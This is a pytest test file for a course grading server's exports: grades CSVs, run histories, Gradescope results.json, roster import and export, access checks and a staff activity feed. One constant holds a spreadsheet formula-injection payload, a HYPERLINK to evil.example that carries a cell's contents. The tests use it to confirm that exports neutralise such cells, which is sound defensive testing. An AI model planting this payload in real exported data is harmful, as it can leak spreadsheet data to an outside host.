"""Exports: grades CSVs that agree with the policy service, every run as JSON, Gradescope results.json, the
roster over the API and the staff's activity feed of an assignment."""

from __future__ import annotations

import csv
import io
import json
import threading
from collections.abc import Callable, Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any
from unittest import mock

import pytest
from sqlalchemy import func, select, update

from server.assignments.models import Assignment
from server.auth.models import User
from server.courses import service as courses
from server.errors import Conflict
from server.exports import service as exports
from server.policy import service as policy
from server.settings import Settings
from server.submissions.models import Submission, SubmissionStatus
from tests.api.helpers import finish, submit
from tests.conftest import Account, World, build_world

SCHEMA = json.loads((Path(__file__).parent / "gradescope_results_schema.json").read_text())
DUE = datetime(2026, 3, 13, 15, 59, tzinfo=UTC)  # 23:59 in Shanghai, in the past
FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&A1,"click")'
CHINESE_NAME = "张伟"


# -- a small JSON Schema checker (jsonschema is not installed): the keywords the schema file uses ---------------


def schema_errors(instance: Any, schema: dict[str, Any], where: str = "$") -> list[str]:
    errors: list[str] = []
    kinds = schema.get("type")
    if kinds is not None:
        allowed = [kinds] if isinstance(kinds, str) else kinds
        checks = {
            "object": lambda v: isinstance(v, dict),
            "array": lambda v: isinstance(v, list),
            "string": lambda v: isinstance(v, str),
            "number": lambda v: isinstance(v, int | float) and not isinstance(v, bool),
        }
        if not any(checks[kind](instance) for kind in allowed):
            return [f"{where}: {instance!r} is not of type {kinds}"]
    if "enum" in schema and instance not in schema["enum"]:
        errors.append(f"{where}: {instance!r} is not one of {schema['enum']}")
    if "minimum" in schema and isinstance(instance, int | float) and instance < schema["minimum"]:
        errors.append(f"{where}: {instance} is below {schema['minimum']}")
    if isinstance(instance, dict):
        properties = schema.get("properties", {})
        errors += [
            f"{where}: {name!r} is required" for name in schema.get("required", []) if name not in instance
        ]
        for name, value in instance.items():
            if name in properties:
                errors += schema_errors(value, properties[name], f"{where}.{name}")
            elif schema.get("additionalProperties") is False:
                errors.append(f"{where}: unexpected key {name!r}")
    if isinstance(instance, list) and "items" in schema:
        for index, item in enumerate(instance):
            errors += schema_errors(item, schema["items"], f"{where}[{index}]")
    if "anyOf" in schema and all(schema_errors(instance, option, where) for option in schema["anyOf"]):
        errors.append(f"{where}: matches none of the anyOf alternatives")
    return errors


@pytest.mark.parametrize(
    "document",
    [
        {"output": "no score anywhere"},
        {"score": 1, "tests": [{"score": 1, "status": "ok"}]},
        {"score": 1, "tests": [{"score": 1, "visibility": "after_due"}]},
        {"score": 1, "leaderboard": [{"name": "time", "value": 1, "order": "up"}]},
        {"score": 1, "leaderboard": [{"value": 1}]},
        {"score": "10"},
        {"score": 1, "scroe": 2},
        {"tests": [{"name": "a test without a score"}]},
    ],
    ids=[
        "no-score",
        "bad-status",
        "bad-visibility",
        "bad-order",
        "unnamed-metric",
        "text-score",
        "typo",
        "no-test-score",
    ],
)
def test_the_schema_checker_refuses_what_gradescope_would_refuse(document: dict[str, Any]):
    assert schema_errors(document, SCHEMA)


def test_the_schemas_own_examples_pass():
    example = {
        "score": 44.0,
        "execution_time": 136,
        "output": "Text relevant to the entire submission",
        "visibility": "after_due_date",
        "stdout_visibility": "visible",
        "extra_data": {},
        "tests": [
            {
                "score": 2.0,
                "max_score": 2.0,
                "status": "passed",
                "name": "Your name here",
                "number": "1.1",
                "output": "Giant multiline string",
                "tags": ["tag1"],
                "visibility": "visible",
            }
        ],
        "leaderboard": [
            {"name": "Accuracy", "value": 0.926},
            {"name": "Time", "value": 15.1, "order": "asc"},
        ],
    }
    assert schema_errors(example, SCHEMA) == []


# -- the world: several students, a late submission, an extension, an override, a regrade ----------------------


@pytest.fixture
def sent() -> Iterator[list[int]]:
    """Grading tasks sent to the broker (submission ids), without a broker."""
    ids: list[int] = []
    fake = mock.Mock()
    fake.send_task.side_effect = lambda name, *, args, **_: ids.append(args[0])
    with mock.patch("server.queue.get_celery", return_value=fake):
        yield ids


def student(world: World, username: str, *, role: str | None = "student", admin: bool = False) -> Account:
    """An account with an API token but no password: hashing one costs a second on a busy machine."""
    from server.auth import service as auth_service
    from server.courses.models import Role

    with world.session() as session:
        user = auth_service.create_user(session=session, username=username, password=None, is_admin=admin)
        if role is not None:
            target = courses.get_course(session=session, slug=world.course)
            courses.enroll(session=session, course=target, user=user, role=Role(role))
        token, _ = auth_service.create_api_token(
            session=session, user=user, name="tests", expires_in_days=None
        )
        session.commit()
        return Account(username, "", token, user.id)


def place(world: World, submission_id: int, submitted_at: datetime) -> None:
    with world.session() as session:
        session.execute(
            update(Submission).where(Submission.id == submission_id).values(submitted_at=submitted_at)
        )
        session.commit()


def rename(world: World, account: Account, display_name: str) -> None:
    with world.session() as session:
        session.execute(update(User).where(User.id == account.user_id).values(display_name=display_name))
        session.commit()


def graded(world: World, account: Account, solution: bytes, *, at: datetime, points: float) -> int:
    response = submit(world, account, solution)
    assert response.status_code == 201, response.text
    submission_id = int(response.json()["id"])
    finish(world, submission_id, score=points)
    place(world, submission_id, at)
    return submission_id


@pytest.fixture
def course(world: World, solution_bytes: bytes, sent: list[int]) -> dict[str, Any]:
    """alice on time (overridden to 9.5, then regraded), bob 1.5 days late, carol late but with an extension,
    dave without a submission; a 10%-per-day late window and weights of 40 (warm-up) and 60 (project)."""
    carol = student(world, "carol")
    dave = student(world, "dave")
    rename(world, carol, FORMULA_NAME)
    rename(world, dave, CHINESE_NAME)
    ids = {
        "alice": graded(world, world.alice, solution_bytes, at=DUE - timedelta(hours=1), points=7.0),
        "bob": graded(world, world.bob, solution_bytes, at=DUE + timedelta(days=1, hours=12), points=8.0),
        "carol": graded(world, carol, solution_bytes, at=DUE + timedelta(days=1, hours=12), points=6.0),
    }
    base = f"/api/courses/{world.course}/assignments"
    changed = world.client.patch(
        f"{base}/warmup/settings",
        json={
            "due_at": DUE.isoformat(),
            "allow_past_deadline": True,
            "late_policy": {"kind": "window", "per": "day", "penalty_percent": 10, "max_units": 3},
            "weight": 40,
        },
        headers=world.instructor.headers,
    )
    assert changed.status_code == 200, changed.text
    weighted = world.client.patch(
        f"{base}/project/settings", json={"weight": 60}, headers=world.instructor.headers
    )
    assert weighted.status_code == 200, weighted.text
    extension = world.client.put(
        f"{base}/warmup/extensions/carol",
        json={"due_at": (DUE + timedelta(days=2)).isoformat(), "reason": "hospital note"},
        headers=world.ta.headers,
    )
    assert extension.status_code == 200, extension.text
    override = world.client.put(
        f"/api/submissions/{ids['alice']}/override",
        json={"score": 9.5, "reason": "grader bug in test 3"},
        headers=world.ta.headers,
    )
    assert override.status_code == 200, override.text
    regrade = world.client.post(f"/api/submissions/{ids['alice']}/regrade", headers=world.ta.headers)
    assert regrade.status_code == 200, regrade.text
    finish(world, ids["alice"], score=6.0, purpose="regrade")
    return {"ids": ids, "carol": carol, "dave": dave}


def download_csv(world: World, url: str, account: Account) -> tuple[list[dict[str, str]], Any]:
    response = world.client.get(url, headers=account.headers)
    assert response.status_code == 200, response.text
    assert response.content.startswith(b"\xef\xbb\xbf")  # the BOM Excel needs to read UTF-8
    assert response.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    return rows, response


# -- grades CSVs -----------------------------------------------------------------------------------------------


def test_the_assignment_grades_csv_matches_the_policy_service(world: World, course: dict[str, Any]):
    rows, response = download_csv(
        world, f"/api/courses/{world.course}/assignments/warmup/export/grades.csv", world.ta
    )
    assert response.headers["content-disposition"] == 'attachment; filename="llm-basics-warmup-grades.csv"'
    assert list(rows[0]) == list(exports.ASSIGNMENT_GRADE_COLUMNS)
    by_name = {row["username"]: row for row in rows}
    assert sorted(by_name) == ["alice", "bob", "carol", "dave"]
    with world.session() as session:
        warmup = session.scalars(select(Assignment).where(Assignment.slug == "warmup")).one()
        expected = {
            grade.user.username: grade
            for grade in policy.assignment_grades(session=session, assignment=warmup)
        }
        for username, grade in expected.items():
            row = by_name[username]
            assert float(row["final_score"]) == pytest.approx(grade.score)
            assert float(row["max_score"]) == grade.max_score == 10.0
            assert float(row["percent"]) == pytest.approx(100 * grade.score / grade.max_score)
            if grade.counted is None:
                assert row["submission_id"] == "" and row["late"] == "no submission"
                continue
            assert int(row["submission_id"]) == grade.counted.submission.id
            assert row["late"] == grade.counted.lateness.describe()
            assert float(row["late_multiplier"]) == pytest.approx(grade.counted.lateness.multiplier)
            assert datetime.fromisoformat(row["submitted_at_utc"]) == grade.counted.submission.submitted_at
            assert row["submitted_at_local"] == policy.local_text(
                grade.counted.submission.submitted_at, warmup.course
            )
    # The figures the scenario was built to give.
    assert by_name["alice"]["final_score"] == "9.5" and by_name["alice"]["autograded_score"] == "6"
    assert by_name["alice"]["override_score"] == "9.5"
    assert by_name["alice"]["override_reason"] == "grader bug in test 3"
    assert by_name["bob"]["late"] == "2 days late: 20% penalty" and by_name["bob"]["final_score"] == "6.4"
    assert by_name["carol"]["late"] == "on time" and by_name["carol"]["final_score"] == "6"
    assert by_name["carol"]["deadline_local"] == "2026-03-15 23:59:00 CST (UTC+08:00)"
    assert by_name["dave"]["final_score"] == "0" and by_name["dave"]["display_name"] == CHINESE_NAME
    assert by_name["bob"]["submitted_at_local"] == "2026-03-15 11:59:00 CST (UTC+08:00)"


def test_a_formula_in_a_display_name_is_exported_as_text(world: World, course: dict[str, Any]):
    rows, _ = download_csv(
        world, f"/api/courses/{world.course}/assignments/warmup/export/grades.csv", world.ta
    )
    carol = next(row for row in rows if row["username"] == "carol")
    assert carol["display_name"] == "'" + FORMULA_NAME


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+86 138", "'+86 138"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("a=b", "a=b"),
        ("", ""),
        (CHINESE_NAME, CHINESE_NAME),
    ],
)
def test_cells_that_start_a_formula_get_an_apostrophe(text: str, written: str):
    data = exports.csv_bytes(["name", "score"], [[text, -1.5]])
    row = next(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
    assert row == {"name": written, "score": "-1.5"}  # numbers are ours, never guarded
    assert exports.unneutralize(written) == text


def test_the_course_grades_csv_has_every_assignment_its_weight_and_the_total(
    world: World, course: dict[str, Any]
):
    rows, response = download_csv(world, f"/api/courses/{world.course}/export/grades.csv", world.instructor)
    assert response.headers["content-disposition"] == 'attachment; filename="llm-basics-grades.csv"'
    columns = list(rows[0])
    assert columns[:2] == ["username", "display_name"] and columns[-1] == "total_percent"
    assert {"warmup_score", "warmup_max", "warmup_weight", "project_score", "project_weight"} <= set(columns)
    by_name = {row["username"]: row for row in rows}
    with world.session() as session:
        target = courses.get_course(session=session, slug=world.course)
        for grade in policy.course_grades(session=session, course=target):
            row = by_name[grade.user.username]
            assert float(row["total_percent"]) == pytest.approx(grade.total_percent)
            for item in grade.grades:
                assert float(row[f"{item.assignment.slug}_score"]) == pytest.approx(item.score)
                assert float(row[f"{item.assignment.slug}_max"]) == item.max_score
    assert by_name["alice"]["warmup_weight"] == "40" and by_name["alice"]["project_weight"] == "60"
    assert float(by_name["alice"]["total_percent"]) == pytest.approx(38.0)  # 9.5 / 10 x 40
    assert float(by_name["bob"]["total_percent"]) == pytest.approx(25.6)  # 6.4 / 10 x 40
    assert float(by_name["dave"]["total_percent"]) == 0
    assert by_name["carol"]["display_name"].startswith("'=")


# -- access ----------------------------------------------------------------------------------------------------

STAFF_GETS = [
    "/api/courses/{course}/assignments/warmup/export/grades.csv",
    "/api/courses/{course}/export/grades.csv",
    "/api/courses/{course}/assignments/warmup/export/runs.json",
    "/api/courses/{course}/roster.csv",
    "/api/courses/{course}/assignments/warmup/activity",
]


@pytest.mark.parametrize("url", STAFF_GETS)
def test_students_are_refused_and_outsiders_cannot_tell_the_course_exists(world: World, url: str):
    target = url.format(course=world.course)
    assert world.client.get(target, headers=world.alice.headers).status_code == 403
    assert world.client.get(target, headers=world.outsider.headers).status_code == 404
    missing = world.client.get(url.format(course="no-such-course"), headers=world.outsider.headers)
    assert missing.status_code == 404
    assert world.client.get(target).status_code == 401
    assert world.client.get(target, headers=world.ta.headers).status_code == 200


# -- runs.json -------------------------------------------------------------------------------------------------


def test_runs_json_has_every_run_including_the_regrade(world: World, course: dict[str, Any]):
    response = world.client.get(
        f"/api/courses/{world.course}/assignments/warmup/export/runs.json", headers=world.ta.headers
    )
    assert response.status_code == 200, response.text
    assert response.headers["content-disposition"] == 'attachment; filename="llm-basics-warmup-runs.json"'
    body = response.json()
    assert body["course"] == world.course and body["assignment"] == "warmup"
    assert body["count"] == len(body["runs"]) == 4
    alice = [run for run in body["runs"] if run["submission_id"] == course["ids"]["alice"]]
    assert [(run["attempt"], run["purpose"], run["score"]) for run in alice] == [
        (1, "grade", 7.0),
        (2, "regrade", 6.0),
    ]
    run = alice[-1]
    assert run["username"] == "alice" and run["status"] == "graded" and run["seed"] == "123456789"
    assert {test["visibility"] for test in run["results"]} == {"visible", "hidden", "after_due"}
    assert run["flags"] and run["hardware_class"] == "cpu" and run["bundle_version"] == "1.1.0"
    assert run["log_chars"] == len("student output\n") and "log" not in run
    assert run["duration_s"] >= 0 and run["hidden_reason"] is None
    with_logs = world.client.get(
        f"/api/courses/{world.course}/assignments/warmup/export/runs.json?include_logs=true",
        headers=world.instructor.headers,
    ).json()
    assert all(item["log"] == "student output\n" for item in with_logs["runs"])


def test_runs_json_pages_through_a_long_history_in_batches(
    world: World, solution_bytes: bytes, sent: list[int]
):
    submission_id = graded(world, world.alice, solution_bytes, at=DUE, points=1.0)
    for score in range(2, 8):
        finish(world, submission_id, score=float(score), purpose="remeasure")
    with mock.patch.object(exports, "RUNS_BATCH", 3):
        body = world.client.get(
            f"/api/courses/{world.course}/assignments/warmup/export/runs.json", headers=world.ta.headers
        ).json()
    assert [run["score"] for run in body["runs"]] == [float(score) for score in range(1, 8)]
    assert len({run["run_id"] for run in body["runs"]}) == body["count"] == 7


def test_runs_json_of_an_assignment_without_runs_is_an_empty_list(world: World):
    body = world.client.get(
        f"/api/courses/{world.course}/assignments/project/export/runs.json", headers=world.ta.headers
    ).json()
    assert body["runs"] == [] and body["count"] == 0


# -- Gradescope results.json -----------------------------------------------------------------------------------


def results_json(world: World, submission_id: int, account: Account) -> Any:
    return world.client.get(f"/api/submissions/{submission_id}/results.json", headers=account.headers)


def test_results_json_for_the_student_hides_what_the_submission_page_hides(
    world: World, course: dict[str, Any]
):
    submission_id = course["ids"]["alice"]
    response = results_json(world, submission_id, world.alice)
    assert response.status_code == 200, response.text
    body = response.json()
    assert schema_errors(body, SCHEMA) == []
    page = world.client.get(f"/api/submissions/{submission_id}", headers=world.alice.headers).json()
    assert [test["name"] for test in body["tests"]] == [test["name"] for test in page["tests"]]
    assert "softmax_secret_case" not in json.dumps(body)
    assert "max abs error" not in json.dumps(body)  # the hidden test's message
    assert [test["visibility"] for test in body["tests"]] == [
        "visible",
        "after_due_date",
    ]  # the deadline passed
    assert body["score"] == 6.0 and body["extra_data"]["hidden_tests"] == page["hidden"]
    assert "1 hidden test(s): 0 passed, 0 of 3 points." in body["output"]
    assert "grader bug in test 3" in body["output"]  # the override and its reason
    assert body["extra_data"]["grade"]["score"] == 9.5 and "staff" not in body["extra_data"]
    assert "seed" not in json.dumps(body) and "timing:" not in json.dumps(body)  # no staff-only flags
    assert body["leaderboard"] == [{"name": "softmax_ms", "value": 1.5, "order": "asc"}]


def test_results_json_for_staff_has_every_test(world: World, course: dict[str, Any]):
    body = results_json(world, course["ids"]["alice"], world.ta).json()
    assert schema_errors(body, SCHEMA) == []
    assert [(test["name"], test["visibility"], test["status"]) for test in body["tests"]] == [
        ("softmax_basic", "visible", "passed"),
        ("softmax_secret_case", "hidden", "failed"),
        ("rms_norm_after_due", "after_due_date", "passed"),
    ]
    assert [test["number"] for test in body["tests"]] == ["1", "2", "3"]
    assert body["tests"][1]["output"] == "max abs error 0.5 at index (3, 7)"
    assert body["extra_data"]["staff"]["flags"] == ["timing: trusted 9.0 ms vs in-sandbox 1.0 ms"]


def test_after_due_tests_stay_hidden_from_students_before_the_deadline(
    world: World, solution_bytes: bytes, sent
):
    submission_id = graded(world, world.bob, solution_bytes, at=datetime.now(UTC), points=7.0)
    with world.session() as session:
        session.execute(
            update(Assignment)
            .where(Assignment.slug == "warmup")
            .values(due_at=datetime.now(UTC) + timedelta(days=3))
        )
        session.commit()
    body = results_json(world, submission_id, world.bob).json()
    assert schema_errors(body, SCHEMA) == []
    assert [test["name"] for test in body["tests"]] == ["softmax_basic"]
    assert body["extra_data"]["hidden_tests"]["count"] == 2
    late = results_json(world, submission_id, world.ta).json()
    assert len(late["tests"]) == 3


def test_a_hidden_run_has_no_leaderboard_entry(world: World, course: dict[str, Any]):
    with world.session() as session:
        submission = session.get(Submission, course["ids"]["bob"])
        assert submission is not None
        submission.runs[-1].hidden_reason = "timing anomaly"
        session.commit()
    body = results_json(world, course["ids"]["bob"], world.bob).json()
    assert schema_errors(body, SCHEMA) == [] and "leaderboard" not in body


def test_results_json_of_others_and_of_ungraded_submissions(
    world: World, course: dict[str, Any], solution_bytes
):
    assert results_json(world, course["ids"]["alice"], world.bob).status_code == 404
    assert results_json(world, course["ids"]["alice"], world.outsider).status_code == 404
    assert results_json(world, 999_999, world.ta).status_code == 404
    with world.session() as session:
        session.execute(update(Assignment).where(Assignment.slug == "warmup").values(due_at=None))
        session.commit()
    queued = submit(world, world.bob, solution_bytes).json()["id"]
    response = results_json(world, queued, world.bob)
    assert response.status_code == 409 and "no autograder results yet" in response.json()["detail"]


def test_a_rubric_graded_submission_has_no_autograder_results(world: World):
    from tests.api.test_project import PDF, upload

    submission_id = upload(world, world.alice, [("report.pdf", PDF)]).json()["id"]
    response = results_json(world, submission_id, world.alice)
    assert response.status_code == 409 and "rubric" in response.json()["detail"]


# -- roster ----------------------------------------------------------------------------------------------------


def upload_roster(world: World, account: Account, data: bytes) -> Any:
    return world.client.post(
        f"/api/courses/{world.course}/roster",
        files={"file": ("roster.csv", data, "text/csv")},
        headers=account.headers,
    )


def accounts(world: World) -> dict[str, str]:
    with world.session() as session:
        return {name: shown for name, shown in session.execute(select(User.username, User.display_name))}


def test_the_roster_round_trips_through_the_api(world: World, course: dict[str, Any]):
    rows, response = download_csv(world, f"/api/courses/{world.course}/roster.csv", world.ta)
    assert response.headers["content-disposition"] == 'attachment; filename="llm-basics-roster.csv"'
    assert list(rows[0]) == ["username", "display_name", "email", "role"]
    by_name = {row["username"]: row for row in rows}
    assert by_name["carol"]["display_name"] == "'" + FORMULA_NAME  # safe to open in Excel
    assert by_name["tina"]["role"] == "ta" and by_name["dave"]["display_name"] == CHINESE_NAME
    before = accounts(world)
    imported = upload_roster(world, world.instructor, response.content)
    assert imported.status_code == 200, imported.text
    assert imported.json()["created"] == [] and sorted(imported.json()["updated"]) == sorted(by_name)
    assert accounts(world) == before  # the formula guard came off again; the Chinese name survived


def test_a_roster_upload_creates_accounts_and_hands_out_passwords_once(world: World):
    data = (
        "username,display_name,email,role,password\n"
        "erin,'=Erin,erin@example.edu,student,\n"
        "frank,樊,,ta,'=frank-password\n"
    ).encode()
    response = upload_roster(world, world.instructor, data)
    assert response.status_code == 200, response.text
    body = response.json()
    assert body["created"] == ["erin", "frank"] and list(body["generated_passwords"]) == ["erin"]
    # Only the name and email cells lose an export's formula guard; a password is taken exactly as written.
    assert accounts(world)["erin"] == "=Erin"
    login = world.client.post("/api/auth/login", json={"username": "frank", "password": "'=frank-password"})
    assert login.status_code == 200
    staff = world.client.get(f"/api/courses/{world.course}/roster.csv", headers=world.instructor.headers)
    assert "frank,樊,,ta" in staff.content.decode("utf-8-sig")
    assert "erin,'=Erin,erin@example.edu,student" in staff.content.decode("utf-8-sig")


def test_every_bad_row_is_reported_and_nothing_is_written(world: World):
    data = (
        b"username,display_name,role,password\n"
        b"newbie,New Person,student,\n"
        b"bad name!,x,student,\n"
        b"other,,professor,\n"
        b"alice,Alice,student,a-new-password\n"
        b"newbie,Again,student,\n"
    )
    before = accounts(world)
    response = upload_roster(world, world.instructor, data)
    assert response.status_code == 400
    body = response.json()
    assert body["code"] == "bad_roster" and "Nothing was imported" in body["detail"]
    assert [problem["row"] for problem in body["problems"]] == [3, 4, 5, 6]
    messages = " | ".join(problem["problem"] for problem in body["problems"])
    assert "A username is 2 to 64 characters" in messages and "'professor'" in messages
    assert "does not change its password" in messages and "appears twice" in messages
    assert accounts(world) == before  # newbie (a good row) was not created either


def test_an_instructor_cannot_take_over_an_administrator_or_demote_themselves(world: World):
    student(world, "root", role=None, admin=True)
    response = upload_roster(
        world, world.instructor, b"username,display_name,role\nroot,Root,student\nprof,P,student\n"
    )
    assert response.status_code == 400
    assert [problem["row"] for problem in response.json()["problems"]] == [2, 3]
    assert "administrator" in response.json()["problems"][0]["problem"]
    assert "your own role" in response.json()["problems"][1]["problem"]


@pytest.mark.parametrize(
    ("data", "code"),
    [
        ("username,display_name\nzoe,Zoë\n".encode("latin-1"), "bad_roster_encoding"),
        (b"name,role\nx,student\n", "bad_request"),
        (b"username\n", "bad_roster"),
    ],
    ids=["not-utf8", "no-username-column", "no-rows"],
)
def test_unreadable_rosters_are_refused_plainly(world: World, data: bytes, code: str):
    response = upload_roster(world, world.instructor, data)
    assert response.status_code == 400 and response.json()["code"] == code
    assert response.json()["detail"]


def test_only_instructors_import_a_roster(world: World):
    data = b"username\nsomeone\n"
    assert upload_roster(world, world.ta, data).status_code == 403
    assert upload_roster(world, world.alice, data).status_code == 403
    assert upload_roster(world, world.outsider, data).status_code == 404
    assert "someone" not in accounts(world)


def test_a_roster_larger_than_the_limit_is_refused(world: World):
    with mock.patch.object(exports, "MAX_ROSTER_BYTES", 64):
        response = upload_roster(world, world.instructor, b"username\n" + b"someone\n" * 20)
    assert response.status_code == 413


# -- activity feed ---------------------------------------------------------------------------------------------


def feed(world: World, slug: str = "warmup", account: Account | None = None, **params: int) -> dict[str, Any]:
    response = world.client.get(
        f"/api/courses/{world.course}/assignments/{slug}/activity",
        params=params,
        headers=(account or world.ta).headers,
    )
    assert response.status_code == 200, response.text
    return response.json()


def test_the_activity_feed_is_newest_first_and_says_what_happened(world: World, course: dict[str, Any]):
    body = feed(world, limit=200)
    items = body["items"]
    assert body["total"] == len(items)
    times = [datetime.fromisoformat(item["at"]) for item in items]
    assert times == sorted(times, reverse=True)
    kinds = [item["kind"] for item in items]
    # Newest first: the regrade's result, the regrade request, the override, the extension, the settings.
    assert kinds[:5] == [
        "regrade.finished",
        "submission.regrade",
        "score.override",
        "extension.grant",
        "assignment.settings",
    ]
    assert kinds.count("submission.created") == 3 and kinds.count("grading.finished") == 3
    alice = course["ids"]["alice"]
    by_kind = {item["kind"]: item for item in items}
    override = by_kind["score.override"]
    assert (
        override["actor"] == "tina" and override["student"] == "alice" and override["submission_id"] == alice
    )
    assert override["summary"] == (
        f"tina set the score of submission {alice} (alice) to 9.5 (autograded: 7). Reason: grader bug in test 3"
    )
    assert override["links"]["submission"] == f"/api/submissions/{alice}"
    assert by_kind["regrade.finished"]["summary"] == f"Regrade of submission {alice} (alice) finished: 6/10."
    assert by_kind["regrade.finished"]["actor"] is None and by_kind["regrade.finished"]["run_id"]
    extension = by_kind["extension.grant"]["summary"]
    assert (
        extension
        == "tina gave carol an extension to 2026-03-15 23:59:00 CST (UTC+08:00). Reason: hospital note"
    )
    changes = next(item for item in items if item["kind"] == "assignment.settings")["summary"]
    assert changes.startswith("prof changed the assignment's deadline from ")
    assert "to 2026-03-13 23:59:00 CST (UTC+08:00)" in changes
    assert (
        "late policy from No late submissions: the deadline is final. to Late submissions are accepted"
        in changes
    )
    submitted = [item for item in items if item["kind"] == "submission.created"]
    assert {item["actor"] for item in submitted} == {"alice", "bob", "carol"}
    assert submitted[-1]["at_local"].endswith("CST (UTC+08:00)")
    assert "assignment.publish" in kinds  # the bootstrap published it, from the server's command line
    assert by_kind["assignment.publish"]["actor"] is None


def test_the_activity_feed_pages_without_gaps_or_repeats(world: World, course: dict[str, Any]):
    whole = feed(world, limit=200)["items"]
    paged: list[dict[str, Any]] = []
    for offset in range(0, len(whole), 4):
        page = feed(world, offset=offset, limit=4)
        assert page["total"] == len(whole) and page["offset"] == offset
        paged += page["items"]
    assert paged == whole
    assert feed(world, offset=len(whole), limit=4)["items"] == []


def test_the_activity_feed_keeps_to_its_assignment(world: World, course: dict[str, Any]):
    from tests.api.test_project import FULL_MARKS, PDF, score, upload

    submission_id = upload(world, world.bob, [("report.pdf", PDF)]).json()["id"]
    scored = score(
        world, world.ta, submission_id, [{"criterion": "problem", "points": 8, "comment": "clear"}]
    )
    assert scored.status_code == 200 and "problem" in FULL_MARKS
    project = feed(world, "project")["items"]
    assert [item["kind"] for item in project[:2]] == ["rubric.score", "submission.created"]
    assert (
        project[0]["summary"] == f"tina gave submission {submission_id} (bob) 8 point(s) for 'problem': clear"
    )
    warmup = feed(world, "warmup", limit=200)["items"]
    assert submission_id not in {item["submission_id"] for item in warmup}
    assert "rubric.score" not in {item["kind"] for item in warmup}


def test_failures_errors_and_course_settings_reach_the_feed(world: World, solution_bytes: bytes, sent):
    failed = submit(world, world.alice, solution_bytes).json()["id"]
    errored = submit(world, world.bob, solution_bytes).json()["id"]
    with world.session() as session:
        for submission_id, status in ((failed, SubmissionStatus.failed), (errored, SubmissionStatus.error)):
            submission = session.get(Submission, submission_id)
            assert submission is not None
            submission.status = status
            submission.attempt = 3
            submission.finished_at = datetime.now(UTC)
        session.commit()
    finish(world, failed, score=0.0)
    with world.session() as session:
        submission = session.get(Submission, failed)
        assert submission is not None
        run = submission.runs[-1]
        run.status = SubmissionStatus.failed
        run.failure_reason = "Your module could not be imported: SyntaxError on line 3."
        session.commit()
    changed = world.client.patch(
        f"/api/courses/{world.course}", json={"late_days_budget": 3}, headers=world.instructor.headers
    )
    assert changed.status_code == 200, changed.text
    by_kind = {item["kind"]: item for item in feed(world, limit=200)["items"]}
    assert by_kind["grading.failed"]["summary"] == (
        f"Grading of submission {failed} (alice) could not grade the code: "
        "Your module could not be imported: SyntaxError on line 3."
    )
    assert by_kind["grading.error"]["submission_id"] == errored
    assert "fault on our side" in by_kind["grading.error"]["summary"]
    assert by_kind["course.settings"]["summary"] == (
        "prof changed the course's late days per student from 0 to 3 (every assignment of the course)."
    )


# -- PostgreSQL ------------------------------------------------------------------------------------------------


@pytest.fixture
def pg_world(configure: Callable[..., Settings], request: pytest.FixtureRequest) -> Iterator[World]:
    built = build_world(configure(database__url=request.getfixturevalue("pg_database")))
    with built.client:
        yield built


@pytest.mark.postgres
def test_on_postgresql_exports_and_concurrent_roster_imports_agree(
    pg_world: World, solution_bytes: bytes, sent: list[int]
):
    world = pg_world
    submission_id = graded(world, world.alice, solution_bytes, at=datetime.now(UTC), points=7.0)
    override = world.client.put(
        f"/api/submissions/{submission_id}/override",
        json={"score": 8, "reason": "partial credit"},
        headers=world.ta.headers,
    )
    assert override.status_code == 200
    items = feed(world, limit=200)["items"]
    assert [item["kind"] for item in items[:3]] == [
        "score.override",
        "grading.finished",
        "submission.created",
    ]
    runs = world.client.get(
        f"/api/courses/{world.course}/assignments/warmup/export/runs.json", headers=world.ta.headers
    ).json()
    assert runs["count"] == 1 and runs["runs"][0]["submission_id"] == submission_id
    rows, _ = download_csv(
        world, f"/api/courses/{world.course}/assignments/warmup/export/grades.csv", world.ta
    )
    assert {row["username"]: row["final_score"] for row in rows} == {"alice": "8", "bob": "0"}

    # Two instructors import rosters that create the same account at the same moment: one creates it, the other
    # updates it or is asked to try again; never an error page, never two accounts.
    barrier = threading.Barrier(2)
    outcomes: list[str] = []

    def import_one(display_name: str) -> None:
        from server.db import get_session_factory

        with get_session_factory()() as session:
            target = courses.get_course(session=session, slug=world.course)
            actor = session.get(User, world.instructor.user_id)
            assert actor is not None
            data = f"username,display_name\nzed,{display_name}\n".encode()
            barrier.wait(timeout=10)
            try:
                result = exports.import_roster(session=session, course=target, actor=actor, data=data)
                session.commit()
                outcomes.append("created" if result.created else "updated")
            except Conflict:
                outcomes.append("conflict")

    threads = [threading.Thread(target=import_one, args=(name,)) for name in ("Zed One", "Zed Two")]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(timeout=60)
    assert sorted(outcomes) in (["conflict", "created"], ["created", "updated"]), outcomes
    with world.session() as session:
        assert session.scalar(select(func.count()).select_from(User).where(User.username == "zed")) == 1


def test_a_regrade_of_the_whole_assignment_reaches_the_feed(world: World, course: dict[str, Any]):
    response = world.client.post(
        f"/api/courses/{world.course}/assignments/warmup/regrade",
        json={"scope": "all"},
        headers=world.ta.headers,
    )
    assert response.status_code == 200, response.text
    newest = feed(world, limit=1)["items"][0]
    assert newest["kind"] == "assignment.regrade" and newest["actor"] == "tina"
    assert (
        newest["summary"]
        == "tina asked for a regrade of the assignment (all submissions): 3 submission(s) requeued."
    )
